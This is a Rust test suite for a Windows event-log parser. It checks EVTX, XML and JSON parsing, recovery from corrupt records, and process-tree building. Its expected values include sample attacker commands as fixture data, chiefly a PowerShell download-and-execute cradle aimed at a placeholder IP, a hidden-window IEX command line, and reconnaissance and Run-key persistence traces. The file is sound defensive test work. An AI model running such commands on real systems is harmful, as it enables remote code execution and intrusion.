//! Windows event logs end to end: `.evtx` files (every record accounted for, against the
//! `evtx` crate's own iterator; damaged chunks and records rejected, the rest kept; the same
//! bytes for every `--threads`; stdin and compressed input), the same events as XML,
//! `evtx_dump` JSON and JSONL giving the same events, Winlogbeat documents giving the same
//! fields, and process trees from Sysmon and Security 4688 events.

mod common;
use common::*;
use serde_json::Value;
use std::path::{Path, PathBuf};

/// A bundled sample, relative to the package root (the tests' working directory), so that
/// `log.file.path` in the expected outputs does not name the checkout.
fn windows(name: &str) -> PathBuf {
    Path::new("testdata/parse/windows").join(name)
}

fn shared_windows() -> Option<PathBuf> {
    let dir = root().join("../shared/data/windows");
    if dir.is_dir() {
        return Some(dir);
    }
    assert!(
        std::env::var_os("LOGWARD_SKIP_SHARED").is_some(),
        "../shared/data/windows is missing (set LOGWARD_SKIP_SHARED=1 to skip)"
    );
    None
}

fn get<'a>(v: &'a Value, path: &str) -> &'a Value {
    path.split('.').fold(v, |v, k| &v[k])
}

/// The `evtx` crate's own count of a file's records: (read, failed).
fn crate_counts(path: &Path) -> (u64, u64) {
    let mut parser = evtx::EvtxParser::from_path(path).unwrap();
    let (mut ok, mut failed) = (0, 0);
    for r in parser.records_json() {
        match r {
            Ok(_) => ok += 1,
            Err(_) => failed += 1,
        }
    }
    (ok, failed)
}

fn parse(args: &[&str]) -> (Vec<u8>, String) {
    let out = logward().current_dir(root()).arg("parse").args(args).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    (out.stdout, String::from_utf8_lossy(&out.stderr).into_owned())
}

/// The events without `log.file.path` (which names the input).
fn without_path(bytes: &[u8]) -> Vec<Value> {
    let mut evs = ndjson(bytes);
    for e in &mut evs {
        if let Some(log) = e.get_mut("log").and_then(Value::as_object_mut) {
            log.remove("file");
            if log.is_empty() {
                e.as_object_mut().unwrap().remove("log");
            }
        }
    }
    evs
}

#[test]
fn evtx_files_give_every_record_as_an_event() {
    let files = ["new-user-security.evtx", "Security_short_selected.evtx", "Application_no_crc32.evtx"];
    let paths: Vec<String> = files.iter().map(|f| windows(f).display().to_string()).collect();
    let args: Vec<&str> = ["--no-templates"].into_iter().chain(paths.iter().map(String::as_str)).collect();
    let (out, err) = parse(&args);
    let want: u64 = files.iter().map(|f| crate_counts(&windows(f)).0).sum();
    assert_eq!(want, 4 + 7 + 17);
    let (read, emitted, rejected, skipped) = summary(err.as_bytes());
    assert_eq!((read, emitted, rejected, skipped), (want, want, 0, 0), "{err}");
    assert_matches_file(&out, &root().join("testdata/parse/expected/windows-evtx.ndjson"));
    let evs = ndjson(&out);
    // new-user-security.evtx: a user created and added to groups.
    let created = evs.iter().find(|e| e["event"]["code"] == "4720").unwrap();
    assert_eq!(get(created, "event.action"), "added-user-account");
    assert_eq!(get(created, "user.target.name"), "IEUser");
    assert_eq!(get(created, "user.name"), "WIN-QALA5Q3KJ43$");
    assert_eq!(get(created, "winlog.channel"), "Security");
    assert_eq!(get(created, "event.dataset"), "system.security");
    assert!(created.get("event").unwrap().get("original").is_none(), "winlog.* holds the record");
    let admins = evs.iter().find(|e| e["group"]["name"] == "Administrators").unwrap();
    assert_eq!(get(admins, "event.action"), "added-member-to-group");
    assert_eq!(get(admins, "group.id"), "S-1-5-32-544");
    // Security_short_selected.evtx: a failed logon.
    let failed = evs.iter().find(|e| e["event"]["code"] == "4625").unwrap();
    assert_eq!(get(failed, "event.outcome"), "failure");
    assert_eq!(get(failed, "winlog.keywords"), &serde_json::json!(["Audit Failure"]));
    // The file without checksums is read whole; the classic Application events keep their
    // unnamed values as param1, param2, ...
    let app: Vec<&Value> = evs.iter().filter(|e| e["winlog"]["channel"] == "Application").collect();
    assert_eq!(app.len(), 17);
    assert!(app.iter().any(|e| e["winlog"]["event_data"]["param1"].is_string()));
}

#[test]
fn every_shared_evtx_file_parses_with_no_record_lost() {
    let Some(dir) = shared_windows() else { return };
    let mut files = Vec::new();
    let mut stack = vec![dir];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|x| x == "evtx") {
                files.push(p);
            }
        }
    }
    files.sort();
    assert!(files.len() >= 280, "{} EVTX files", files.len());
    let errors = tempfile::NamedTempFile::new().unwrap();
    let mut cmd = logward();
    cmd.args(["parse", "-q", "--no-templates", "--errors"]).arg(errors.path()).args(&files);
    let out = cmd.output().unwrap();
    assert!(out.status.success());
    let mut per_file = std::collections::HashMap::<String, u64>::new();
    for e in ndjson(&out.stdout) {
        *per_file.entry(get(&e, "log.file.path").as_str().unwrap().to_string()).or_default() += 1;
    }
    let mut rejects = std::collections::HashMap::<String, u64>::new();
    for r in ndjson(&std::fs::read(errors.path()).unwrap()) {
        assert_eq!(r["kind"], "corrupt_record", "{r}");
        *rejects.entry(r["file"].as_str().unwrap().to_string()).or_default() += 1;
    }
    for f in &files {
        let (ok, failed) = crate_counts(f);
        let name = f.display().to_string();
        assert_eq!(per_file.get(&name).copied().unwrap_or(0), ok, "{name}: events");
        assert_eq!(rejects.get(&name).copied().unwrap_or(0), failed, "{name}: rejected records and chunks");
    }
}

#[test]
fn output_is_the_same_for_every_thread_count() {
    let mut inputs = vec![windows("new-user-security.evtx"), windows("events.xml"), windows("events.json")];
    if let Some(dir) = shared_windows() {
        inputs.push(dir.join("evtx-crate-samples/security.evtx"));
        inputs.push(dir.join("evtx-crate-samples/sysmon.evtx"));
    }
    let run = |threads: &str| {
        let out = logward().args(["parse", "-q", "--threads", threads]).args(&inputs).output().unwrap();
        assert!(out.status.success());
        out.stdout
    };
    let one = run("1");
    assert!(!one.is_empty());
    for t in ["2", "3", "8"] {
        assert!(one == run(t), "--threads {t} differs from --threads 1");
    }
}

/// A copy of `new-user-security.evtx` with a second chunk (that of
/// `Security_short_selected.evtx`, whose records come later).
fn two_chunk_file() -> Vec<u8> {
    let a = std::fs::read(windows("new-user-security.evtx")).unwrap();
    let b = std::fs::read(windows("Security_short_selected.evtx")).unwrap();
    let mut f = a[..4096 + 65536].to_vec();
    f.extend_from_slice(&b[4096..4096 + 65536]);
    f
}

#[test]
fn a_corrupt_chunk_or_record_is_rejected_and_the_rest_kept() {
    let dir = tempfile::tempdir().unwrap();
    let whole = dir.path().join("whole.evtx");
    std::fs::write(&whole, two_chunk_file()).unwrap();
    let (out, err) = parse(&["--no-templates", whole.to_str().unwrap()]);
    assert_eq!(summary(err.as_bytes()), (11, 11, 0, 0), "{err}");
    assert_eq!(ndjson(&out).len(), 11);

    // The second chunk's magic overwritten: its records are one reject, the first chunk's stay.
    let mut bad_chunk = two_chunk_file();
    bad_chunk[4096 + 65536..4096 + 65536 + 8].copy_from_slice(b"garbage!");
    let path = dir.path().join("bad-chunk.evtx");
    std::fs::write(&path, &bad_chunk).unwrap();
    let errors = dir.path().join("errors.ndjson");
    let (out, err) = parse(&["--no-templates", "--errors", errors.to_str().unwrap(), path.to_str().unwrap()]);
    assert_eq!(summary(err.as_bytes()), (5, 4, 1, 0), "{err}");
    let records: Vec<String> =
        ndjson(&out).iter().map(|e| get(e, "winlog.record_id").as_str().unwrap().to_string()).collect();
    assert_eq!(records, ["111", "112", "113", "116"]);
    let rejects = ndjson(&std::fs::read(&errors).unwrap());
    assert_eq!(rejects.len(), 1);
    assert_eq!(rejects[0]["kind"], "corrupt_record");
    // Named by the record id that comes next by the chunk headers: this sample's header counts
    // records 1 to 4 (its records carry ids 111 to 116), so the next is 5.
    assert_eq!(rejects[0]["line"], 5, "named by the record id that would have come next");
    assert!(rejects[0]["reason"].as_str().unwrap().contains("EVTX chunk 1"), "{}", rejects[0]);
    assert!(err.contains("bad-chunk.evtx:5: rejected: EVTX chunk 1"), "{err}");

    // A record's header overwritten: that record is a reject, named by its id where the
    // crate knows it, and every other record is kept.
    let mut bad_record = two_chunk_file();
    let chunk = 4096;
    let second =
        chunk + 512 + u32::from_le_bytes(bad_record[chunk + 512 + 4..chunk + 512 + 8].try_into().unwrap()) as usize;
    assert_eq!(&bad_record[second..second + 4], b"\x2a\x2a\x00\x00", "the second record starts there");
    bad_record[second..second + 4].copy_from_slice(b"XXXX");
    let path = dir.path().join("bad-record.evtx");
    std::fs::write(&path, &bad_record).unwrap();
    let (out, err) = parse(&["--no-templates", path.to_str().unwrap()]);
    let (read, emitted, rejected, _) = summary(err.as_bytes());
    assert_eq!(read, emitted + rejected);
    assert!(rejected >= 1, "{err}");
    let kept: Vec<String> =
        ndjson(&out).iter().map(|e| get(e, "winlog.record_id").as_str().unwrap().to_string()).collect();
    assert!(kept.contains(&"111".to_string()) && kept.len() >= 10, "{kept:?}");
    assert!(!kept.contains(&"112".to_string()), "{kept:?}");

    // A file cut short inside a chunk: the whole chunks are read and the cut is reported.
    let mut cut = two_chunk_file();
    cut.truncate(4096 + 65536 + 1000);
    let path = dir.path().join("cut.evtx");
    std::fs::write(&path, &cut).unwrap();
    let (out, err) = parse(&["--no-templates", path.to_str().unwrap()]);
    assert_eq!(ndjson(&out).len(), 4);
    assert_eq!(summary(err.as_bytes()), (5, 4, 1, 0), "{err}");
    assert!(err.contains("ends 1000 bytes into a chunk"), "{err}");
}

#[test]
fn evtx_from_stdin_and_inside_gzip() {
    let file = windows("new-user-security.evtx");
    let bytes = std::fs::read(&file).unwrap();
    let (direct, _) = parse(&["-q", file.to_str().unwrap()]);
    let piped = logward().args(["parse", "-q", "-"]).write_stdin(bytes.clone()).output().unwrap();
    assert!(piped.status.success(), "{}", String::from_utf8_lossy(&piped.stderr));
    assert_eq!(without_path(&piped.stdout), without_path(&direct));
    let dir = tempfile::tempdir().unwrap();
    let gz = dir.path().join("security.log.gz");
    let mut enc = flate2::write::GzEncoder::new(std::fs::File::create(&gz).unwrap(), flate2::Compression::fast());
    std::io::Write::write_all(&mut enc, &bytes).unwrap();
    enc.finish().unwrap();
    let (unzipped, _) = parse(&["-q", gz.to_str().unwrap()]);
    assert_eq!(without_path(&unzipped), without_path(&direct));
}

#[test]
fn other_commands_say_to_parse_evtx_first() {
    let out = logward().args(["detect"]).arg(windows("new-user-security.evtx")).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("is a Windows event log (EVTX)") && err.contains("logward parse"), "{err}");
    assert_eq!(out.stdout, b"");
}

#[test]
fn the_same_events_as_xml_and_evtx_dump_json_are_the_same_events() {
    let (xml, err) = parse(&[windows("events.xml").to_str().unwrap()]);
    assert_accounted(err.as_bytes(), std::fs::read_to_string(windows("events.xml")).unwrap().lines().count() as u64);
    assert_matches_file(&xml, &root().join("testdata/parse/expected/windows-events.ndjson"));
    let want = without_path(&xml);
    assert_eq!(want.len(), 14);
    for form in ["events-pretty.xml", "events.jsonl", "events.json"] {
        let (got, err) = parse(&[windows(form).to_str().unwrap()]);
        let (_, emitted, rejected, _) = summary(err.as_bytes());
        assert_eq!((emitted, rejected), (14, 0), "{form}: {err}");
        let got = without_path(&got);
        for (g, w) in got.iter().zip(&want) {
            assert_eq!(g, w, "{form}");
        }
    }
    // Detected by their content (the pretty JSON starts with `Record 1`, the pretty XML with
    // a declaration), and named with --format.
    for (form, name) in [("events.json", "evtx"), ("events-pretty.xml", "windows-xml")] {
        let (forced, _) = parse(&["--format", name, windows(form).to_str().unwrap()]);
        assert_eq!(without_path(&forced), want, "{form} with --format {name}");
    }
}

#[test]
fn mapped_fields_of_security_sysmon_and_powershell_events() {
    let (out, _) = parse(&["--no-templates", windows("events.xml").to_str().unwrap()]);
    let evs = ndjson(&out);
    let by = |code: &str| evs.iter().find(|e| e["event"]["code"] == code).unwrap_or_else(|| panic!("no {code}"));
    let logon = by("4624");
    for (path, want) in [
        ("@timestamp", "2024-02-01T09:14:58.1234567Z"),
        ("user.name", "alice"),
        ("user.domain", "CORP"),
        ("source.ip", "203.0.113.7"),
        ("source.domain", "WS07"),
        ("winlog.logon.type", "RemoteInteractive"),
        ("winlog.logon.id", "0x5a2f01"),
        ("process.name", "svchost.exe"),
        ("winlog.event_data.LogonType", "10"),
        ("winlog.event_data.IpAddress", "203.0.113.7"),
        ("winlog.record_id", "1001"),
        ("winlog.computer_name", "DC01.corp.example"),
        ("host.name", "DC01.corp.example"),
    ] {
        assert_eq!(get(logon, path), want, "4624 {path}");
    }
    assert_eq!(get(logon, "process.pid"), 996);
    let failed = by("4625");
    assert_eq!(get(failed, "source.ip"), "198.51.100.23", "IPv4-mapped addresses as IPv4");
    assert_eq!(get(failed, "user.name"), "administrator", "user@domain names keep the user");
    assert_eq!(get(failed, "winlog.logon.failure.sub_status"), "User logon with misspelled or bad password");
    let member = by("4732");
    assert_eq!(get(member, "group.name"), "Administrators");
    assert_eq!(get(member, "user.target.id"), "S-1-5-21-1004336348-1177238915-682003330-1105");
    let proc4688 = by("4688");
    assert_eq!(get(proc4688, "process.pid"), 0x1a2c);
    assert_eq!(get(proc4688, "process.parent.pid"), 0x9f0);
    assert_eq!(get(proc4688, "process.parent.name"), "explorer.exe");
    assert_eq!(
        get(proc4688, "process.args"),
        &serde_json::json!(["cmd.exe", "/c", "whoami /all & net user svc-backup2"])
    );
    let sysmon = by("1");
    assert_eq!(get(sysmon, "process.entity_id"), "{0197231e-61ef-693a-c812-000000000800}");
    assert_eq!(get(sysmon, "process.parent.entity_id"), "{0197231e-bdea-6937-ab0c-000000000800}");
    assert_eq!(get(sysmon, "process.hash.sha256"), "8955d2a45404a59c2e3772f3c76aeeae48aedf100be328c003d7a4df5342b491");
    assert_eq!(get(sysmon, "winlog.event_data.Image"), r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe");
    let dns = by("22");
    assert_eq!(get(dns, "dns.question.name"), "update.files.example.com");
    assert_eq!(get(dns, "dns.question.registered_domain"), "example.com");
    assert_eq!(get(dns, "dns.resolved_ip"), &serde_json::json!(["198.51.100.9"]));
    let reg = by("13");
    assert_eq!(get(reg, "registry.hive"), "HKU");
    assert_eq!(get(reg, "registry.value"), "updater");
    let script = by("4104");
    let text = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\n$x = \"<tag>&\"";
    assert_eq!(get(script, "winlog.event_data.ScriptBlockText"), text, "script blocks keep their text");
    assert_eq!(get(script, "powershell.file.script_block_text"), text);
    let classic = by("400");
    assert_eq!(get(classic, "process.command_line"), "powershell.exe -nop -w hidden -c IEX");
    assert_eq!(get(classic, "winlog.event_data.HostApplication"), "powershell.exe -nop -w hidden -c IEX");
    assert!(get(classic, "winlog.event_data.param3").as_str().unwrap().contains("HostName=ConsoleHost"));
    let cleared = by("1102");
    assert_eq!(get(cleared, "user.name"), "alice");
    assert_eq!(get(cleared, "winlog.user_data.xml_name"), "LogFileCleared");
    let service = by("7045");
    assert_eq!(get(service, "winlog.event_data.ServiceName"), "updsvc");
    assert_eq!(get(service, "event.dataset"), "system.system");
}

/// The fields both Winlogbeat and logward write, compared for the same events. Left out on
/// purpose: `winlog.event_data` (logward keeps every value, Winlogbeat moves some to ECS
/// fields), `winlog.task` and `event.action` of Sysmon (Winlogbeat's come from the event's
/// rendered message), Sysmon's `@timestamp` (Winlogbeat takes UtcTime) and `user.id`
/// (Winlogbeat puts the Sysmon service's SID there), `event.module`/`event.dataset`, and the
/// group member's `user.target.id`.
#[test]
fn winlogbeat_documents_give_the_same_fields() {
    let (ours, _) = parse(&["--no-templates", windows("events.xml").to_str().unwrap()]);
    let ours = ndjson(&ours);
    let (theirs, _) = parse(&[windows("winlogbeat.ndjson").to_str().unwrap()]);
    let theirs = ndjson(&theirs);
    assert_eq!(theirs.len(), 6);
    let common = [
        "event.code",
        "event.category",
        "event.type",
        "event.outcome",
        "event.provider",
        "host.name",
        "log.level",
        "user.name",
        "user.domain",
        "user.target.name",
        "user.target.id",
        "group.name",
        "group.id",
        "group.domain",
        "source.ip",
        "source.port",
        "source.domain",
        "destination.ip",
        "destination.port",
        "network.transport",
        "network.direction",
        "network.protocol",
        "network.type",
        "process.pid",
        "process.name",
        "process.executable",
        "process.command_line",
        "process.args",
        "process.entity_id",
        "process.working_directory",
        "process.parent.entity_id",
        "process.parent.pid",
        "process.parent.executable",
        "process.parent.name",
        "process.parent.command_line",
        "process.pe.original_file_name",
        "process.hash.md5",
        "process.hash.sha256",
        "rule.name",
        "related.ip",
        "winlog.channel",
        "winlog.event_id",
        "winlog.record_id",
        "winlog.computer_name",
        "winlog.provider_name",
        "winlog.provider_guid",
        "winlog.keywords",
        "winlog.opcode",
        "winlog.version",
        "winlog.process.pid",
        "winlog.process.thread.id",
        "winlog.logon.type",
        "winlog.logon.failure.reason",
        "winlog.logon.failure.status",
        "winlog.logon.failure.sub_status",
    ];
    let mut compared = 0;
    for t in &theirs {
        let o = ours.iter().find(|o| o["winlog"]["record_id"] == t["winlog"]["record_id"]).unwrap();
        let sysmon = t["winlog"]["channel"] == "Microsoft-Windows-Sysmon/Operational";
        let mut paths: Vec<&str> = common.to_vec();
        if !sysmon {
            paths.extend(["@timestamp", "event.action", "user.id"]);
        }
        // The member added to a group (MemberSid) is logward's user.target.id; Winlogbeat
        // leaves it in winlog.event_data only.
        if t["event"]["action"] == "added-member-to-group" {
            paths.retain(|p| *p != "user.target.id");
        }
        for p in paths {
            let (a, b) = (get(o, p), get(t, p));
            assert_eq!(a, b, "record {}: {p}", t["winlog"]["record_id"]);
            compared += usize::from(!a.is_null());
        }
    }
    assert!(compared > 150, "{compared} fields compared");
}

#[test]
fn xml_errors_are_rejects_and_other_events_are_kept() {
    let dir = tempfile::tempdir().unwrap();
    let good = std::fs::read_to_string(windows("events.xml")).unwrap();
    let first = good.lines().next().unwrap();
    let text = format!("{first}\n<Event xmlns='x'><System><EventID>1</System></Event>\n{first}\nnot xml at all\n");
    let path = dir.path().join("mixed.xml");
    std::fs::write(&path, text).unwrap();
    let out = logward()
        .args(["parse", "-q", "--format", "windows-xml", "--errors"])
        .arg(dir.path().join("e.ndjson"))
        .arg(&path)
        .output()
        .unwrap();
    assert!(out.status.success());
    assert_eq!(ndjson(&out.stdout).len(), 2);
    let rejects = ndjson(&std::fs::read(dir.path().join("e.ndjson")).unwrap());
    let lines: Vec<u64> = rejects.iter().map(|r| r["line"].as_u64().unwrap()).collect();
    assert_eq!(lines, [2, 4]);
    assert!(rejects[0]["reason"].as_str().unwrap().starts_with("invalid XML"), "{}", rejects[0]);
}

#[test]
fn process_trees_from_sysmon_and_security_4688() {
    let events = logward().args(["parse", "-q"]).arg(root().join("testdata/tree/windows.xml")).output().unwrap();
    assert!(events.status.success());
    for (format, file) in [("text", "windows-expected.txt"), ("ndjson", "windows-expected.ndjson")] {
        let out = logward().args(["tree", "--format", format]).write_stdin(events.stdout.clone()).output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        assert_matches_file(&out.stdout, &root().join("testdata/tree").join(file));
    }
    let out = logward().args(["tree", "--format", "ndjson"]).write_stdin(events.stdout.clone()).output().unwrap();
    let nodes = ndjson(&out.stdout);
    let names: Vec<&str> = nodes.iter().map(|n| n["process"]["name"].as_str().unwrap()).collect();
    assert_eq!(
        names,
        ["explorer.exe", "powershell.exe", "cmd.exe", "whoami.exe", "rundll32.exe", "cmd.exe", "net.exe", "net1.exe"]
    );
    let ps = &nodes[1];
    assert_eq!(ps["process"]["entity_id"], "{0197231e-61ef-693a-c812-000000000800}");
    assert_eq!(ps["logward"]["tree"]["path"], serde_json::json!([4100, 6400]));
    let activity = &ps["logward"]["tree"]["activity"];
    assert_eq!(activity["connections"], serde_json::json!({"198.51.100.7:443": 2}));
    assert_eq!(activity["dns"], serde_json::json!({"update.example.com": 1}));
    assert!(activity["files"].as_object().unwrap().keys().any(|k| k.ends_with(r"Temp\x.dll")));
    let rundll = &nodes[4]["logward"]["tree"]["activity"];
    assert!(rundll["registry"].as_object().unwrap().keys().any(|k| k.ends_with(r"CurrentVersion\Run\updater")));
    // Security 4688 links processes by pid on their host (no entity ids), and 4689 ends one.
    assert_eq!(nodes[7]["logward"]["tree"]["path"], serde_json::json!([0x1f00, 0x1f10, 0x1f20]));
    assert_eq!(nodes[7]["process"]["end"], "2024-02-01T10:00:03Z");
    assert_eq!(nodes[7]["user"]["name"], "bob");
}
